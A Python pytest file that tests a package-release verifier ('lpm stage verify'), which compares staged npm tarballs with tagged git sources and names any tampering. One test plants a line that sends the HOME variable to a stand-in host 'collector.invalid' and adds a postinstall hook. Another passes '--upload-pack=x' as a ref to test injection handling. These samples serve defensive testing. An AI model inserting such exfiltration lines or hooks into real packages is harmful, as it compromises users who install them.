"""``lpm stage verify`` on the real Verdaccio: a tagged git repository made here, staged by lpm and by npm.

The staged tarball is compared with what the tag packs to in a temporary worktree: identical
when nothing was tampered with, and each tampering named when something was.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.stage.test_review_e2e import edit_manifest, npm_stage_publish, stage

pytestmark = [pytest.mark.registry, pytest.mark.npm]


def git(repo: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.invalid",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.invalid",
        GIT_CONFIG_NOSYSTEM="1",
        HOME=str(repo.parent),
    )
    proc = subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True, check=True)
    return proc.stdout.strip()


def commit_and_tag(repo: Path, tag: str) -> str:
    if not (repo / ".git").exists():
        git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", tag)
    git(repo, "tag", tag)
    return git(repo, "rev-parse", "HEAD")


def verify(lpm: Any, stage_id: str, registry: str, *extra: str) -> Any:
    return lpm("stage", "verify", stage_id, "--json", "--npm-registry", registry, *extra)


def test_a_tag_staged_by_lpm_and_by_npm_verifies_identical(published: Any, verdaccio: Any, lpm: Any) -> None:
    project = published.dir
    (project / "lib" / "run.sh").write_text("#!/bin/sh\necho hi\n")
    os.chmod(project / "lib" / "run.sh", 0o755)
    commit = commit_and_tag(project, "v1.1.0")
    by_lpm = stage(lpm, verdaccio.url)

    run = verify(lpm, by_lpm, verdaccio.url, "--ref", "v1.1.0")
    assert run.code == 0, run.text
    data = run.json()["data"]
    assert data["verdict"] == "identical" and data["passed"] is True and data["differences"] == []
    assert data["source"] == {
        "path": str(project.resolve()),
        "ref": "v1.1.0",
        "commit": commit,
        "dirty": False,
    }
    assert git(project, "worktree", "list").count("\n") == 0, "the temporary worktree is gone"

    published.set_version("1.2.0")
    commit_and_tag(project, "v1.2.0")
    by_npm = npm_stage_publish(verdaccio, published.token, project)
    run = verify(lpm, by_npm, verdaccio.url, "--ref", "v1.2.0")
    assert run.code == 0, run.text
    assert run.json()["data"]["verdict"] == "identical"

    text = lpm("stage", "verify", by_npm, "--npm-registry", verdaccio.url)  # the working tree, in text
    assert text.code == 0, text.text
    assert "tarball: identical to the source" in text.out and "Verification PASSED" in text.out


def test_a_tampered_tree_is_refused_with_each_difference_named(
    published: Any, verdaccio: Any, lpm: Any
) -> None:
    project = published.dir
    commit_and_tag(project, "v1.1.0")
    index = project / "lib" / "index.js"
    index.write_text(index.read_text() + "fetch('https://collector.invalid/' + process.env.HOME)\n")
    (project / "lib" / "extra.js").write_text("export const extra = 1\n")
    os.chmod(project / "lib" / "index.d.ts", 0o755)
    edit_manifest(project, scripts={"test": "node --test test/", "postinstall": "node lib/extra.js"})
    stage_id = stage(lpm, verdaccio.url)

    run = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.1.0")
    assert run.code == 1, run.text
    doc = run.json()
    assert doc["success"] is False and doc["error_code"] == "verification_failed"
    for named in (
        "lib/extra.js: only in the staged tarball",
        "lib/index.d.ts: mode 0644 -> 0755 differs",
        "lib/index.js: content differs",
        "package.json: content differs",
    ):
        assert named in doc["error"]
    differences = {d["path"]: d for d in doc["data"]["differences"]}
    assert set(differences) == {"lib/index.js", "lib/extra.js", "lib/index.d.ts", "package.json"}
    assert differences["lib/extra.js"]["status"] == "added"
    assert differences["lib/index.js"]["aspects"] == ["content"]
    assert "+fetch('https://collector.invalid/' + process.env.HOME)" in differences["lib/index.js"]["diff"]
    assert differences["lib/index.d.ts"]["aspects"] == ["mode"]
    assert (
        differences["lib/index.d.ts"]["source"]["mode"],
        differences["lib/index.d.ts"]["staged"]["mode"],
    ) == ("0644", "0755")
    assert '"postinstall": "node lib/extra.js"' in differences["package.json"]["diff"]
    assert doc["data"]["explainedByBuild"] == []

    text = lpm("stage", "verify", stage_id, "--ref", "v1.1.0", "--npm-registry", verdaccio.url)
    assert text.code == 1
    assert "lib/extra.js: only in the staged tarball" in text.out
    assert "lib/index.d.ts: mode 0644 -> 0755 differs" in text.out
    assert "Verification REFUSED" in text.out


def test_a_secret_in_a_differing_line_is_withheld(published: Any, verdaccio: Any, lpm: Any) -> None:
    from tests.stage.test_review_e2e import PLANTED_KEY

    project = published.dir
    commit_and_tag(project, "v1.1.0")
    index = project / "lib" / "index.js"
    index.write_text(index.read_text() + f"const key = '{PLANTED_KEY}'\n")
    stage_id = stage(lpm, verdaccio.url, "--allow-secrets")
    run = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.1.0")
    assert run.code == 1, run.text
    assert PLANTED_KEY not in run.text
    (difference,) = run.json()["data"]["differences"]
    assert "[line withheld: possible secret" in difference["diff"]


def test_a_deterministic_build_step_verifies_only_when_allowed(
    published: Any, verdaccio: Any, lpm: Any
) -> None:
    project = published.dir
    (project / "build.mjs").write_text(
        "import { mkdirSync, writeFileSync } from 'node:fs'\n"
        "mkdirSync('dist', { recursive: true })\n"
        "writeFileSync('dist/built.js', 'export const built = ' + JSON.stringify([1, 2, 3]) + '\\n')\n"
    )
    (project / ".gitignore").write_text("dist/\n")
    edit_manifest(project, files=["lib", "dist"], scripts={"prepack": "node build.mjs"})
    commit_and_tag(project, "v1.1.0")
    stage_id = npm_stage_publish(verdaccio, published.token, project)  # npm runs prepack

    refused = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.1.0")
    assert refused.code == 1
    data = refused.json()["data"]
    assert data["build"]["skipped"] == [{"step": "scripts.prepack", "command": "node build.mjs"}]
    assert [(d["path"], d["status"]) for d in data["differences"]] == [("dist/built.js", "added")]

    run = lpm("stage", "verify", stage_id, "--ref", "v1.1.0", "--build", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    assert "Running project code (scripts.prepack): node build.mjs" in run.err
    assert "Verification PASSED" in run.out


def test_bad_input_is_one_line(published: Any, verdaccio: Any, lpm: Any) -> None:
    commit_and_tag(published.dir, "v1.1.0")
    stage_id = stage(lpm, verdaccio.url)
    for args, code, message in (
        (("--ref", "v9.9.9"), 2, "--ref v9.9.9: no such commit, branch or tag"),
        (("--ref", "--upload-pack=x"), 2, "not a ref"),
        (("--source", str(published.dir / "nope")), 2, "no such directory"),
    ):
        run = lpm("stage", "verify", stage_id, "--npm-registry", verdaccio.url, *args)
        assert run.code == code, run.text
        assert message in run.err and "Traceback" not in run.text


def test_a_build_command_from_releasekit_yaml(
    published: Any, verdaccio: Any, lpm: Any, tmp_path: Path
) -> None:
    project = published.dir
    (project / "releasekit.yaml").write_text(
        "verify:\n  build: node -e \"require('fs').writeFileSync('lib/v.js', '1')\"\n"
    )
    (project / "lib" / "v.js").write_text("1")
    commit_and_tag(project, "v1.1.0")
    stage_id = stage(lpm, verdaccio.url)
    run = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.1.0")
    assert run.code == 0, run.text
    build = run.json()["data"]["build"]
    assert [s["step"] for s in build["ran"]] == ["verify.build"] and build["outputs"] == ["lib/v.js"]
    assert json.loads((project / "package.json").read_text())["version"] == "1.1.0"


def approve_requests(verdaccio: Any, stage_id: str) -> int:
    return sum(
        1
        for line in verdaccio.log_lines()
        if line.get("req", {}).get("method") == "POST"
        and f"/-/stage/{stage_id}/approve" in line["req"].get("url", "")
    )


def test_approve_verifies_before_the_otp_and_skip_verify_says_what_it_skipped(
    published: Any, verdaccio: Any, lpm: Any
) -> None:
    project = published.dir
    (project / "releasekit.yaml").write_text("verify:\n  source: true\n  ref: v{version}\n")
    commit_and_tag(project, "v1.1.0")
    index = project / "lib" / "index.js"
    index.write_text(index.read_text() + "// one extra line\n")
    tampered = stage(lpm, verdaccio.url)

    run = lpm("stage", "approve", tampered, "--json", "--npm-registry", verdaccio.url)
    assert run.code == 1, run.text
    doc = run.json()
    assert doc["error_code"] == "verification_failed" and "nothing was sent to the registry" in doc["error"]
    assert [d["path"] for d in doc["data"]["verification"]["differences"]] == ["lib/index.js"]
    assert approve_requests(verdaccio, tampered) == 0
    text = lpm("stage", "approve", tampered, "--npm-registry", verdaccio.url)
    assert text.code == 1 and "lib/index.js: content differs" in text.err
    # a batch verifies each entry too (only this package's: the session registry holds other tests' entries)
    bulk = lpm("stage", "approve", "--all", "--package", published.name, "--npm-registry", verdaccio.url)
    assert bulk.code == 1 and "lib/index.js: content differs" in bulk.err and "nothing was sent" in bulk.err
    assert approve_requests(verdaccio, tampered) == 0

    run = lpm("stage", "approve", tampered, "--skip-verify", "--json", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    assert (
        "WARNING: --skip-verify: the staged tarball was NOT compared with the source at v{version}" in run.err
    )
    assert run.json()["data"]["verificationSkipped"] is True and approve_requests(verdaccio, tampered) == 1

    published.set_version("1.2.0")
    commit_and_tag(project, "v1.2.0")
    clean = stage(lpm, verdaccio.url)
    run = lpm("stage", "approve", clean, "--json", "--npm-registry", verdaccio.url)
    assert run.code == 0, run.text
    verification = run.json()["data"]["verification"]
    assert verification["verdict"] == "identical" and verification["source"]["ref"] == "v1.2.0"


def test_a_non_deterministic_build_is_named_as_a_possible_explanation(
    published: Any, verdaccio: Any, lpm: Any
) -> None:
    project = published.dir
    (project / "stamp.mjs").write_text(
        "import { mkdirSync, writeFileSync } from 'node:fs'\n"
        "mkdirSync('dist', { recursive: true })\n"
        "writeFileSync('dist/stamp.js', 'export const at = ' + process.hrtime.bigint() + '\\n')\n"
    )
    (project / ".gitignore").write_text("dist/\n")
    edit_manifest(project, files=["lib", "dist"], scripts={"prepack": "node stamp.mjs"})
    commit_and_tag(project, "v1.1.0")
    stage_id = npm_stage_publish(verdaccio, published.token, project)
    run = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.1.0", "--build")
    assert run.code == 1, run.text
    data = run.json()["data"]
    assert [d["path"] for d in data["differences"]] == ["dist/stamp.js"] == data["explainedByBuild"]
    assert data["differences"][0]["buildOutput"] is True
    text = lpm("stage", "verify", stage_id, "--ref", "v1.1.0", "--build", "--npm-registry", verdaccio.url)
    assert "a non-deterministic build could explain: dist/stamp.js" in text.out


def test_checking_out_a_ref_runs_no_hook(published: Any, verdaccio: Any, lpm: Any) -> None:
    project = published.dir
    hooks = project / ".husky"
    hooks.mkdir()
    (hooks / "post-checkout").write_text(f"#!/bin/sh\ntouch {project / 'hook-ran'}\n")
    os.chmod(hooks / "post-checkout", 0o755)
    commit_and_tag(project, "v1.1.0")
    git(project, "config", "core.hooksPath", ".husky")
    stage_id = stage(lpm, verdaccio.url)
    run = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.1.0")
    assert run.code == 0, run.text
    assert not (project / "hook-ran").exists()


def test_a_workspace_member_staged_by_npm_from_inside_it_verifies(
    verdaccio: Any, registry_user: Any, unique_name: Any, tmp_path: Path, lpm: Any, monkeypatch: Any
) -> None:
    """npm applies the root's and the in-between folders' ignore files to a member; so does the packer."""
    root = tmp_path / "ws"
    member = root / "packages" / "a"
    member.mkdir(parents=True)
    (root / "package.json").write_text(
        json.dumps({"name": "ws-root", "private": True, "workspaces": ["packages/*"]})
    )
    (root / ".gitignore").write_text("*.local\n")
    (root / "packages" / ".npmignore").write_text("*.log\n")
    name = unique_name("rk-ws-member")
    (member / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0", "main": "index.js"}))
    (member / "index.js").write_text("module.exports = 1\n")
    (member / "debug.log").write_text("not shipped\n")
    (member / "notes.local").write_text("kept out of git, and of the tarball\n")
    commit_and_tag(root, "v1.0.0")
    stage_id = npm_stage_publish(verdaccio, registry_user.token, member)
    monkeypatch.setenv("NPM_TOKEN", registry_user.token)
    monkeypatch.chdir(member)
    run = verify(lpm, stage_id, verdaccio.url, "--ref", "v1.0.0")
    assert run.code == 0, run.text
    run = verify(lpm, stage_id, verdaccio.url)  # the working tree, where notes.local exists
    assert run.code == 0, run.text
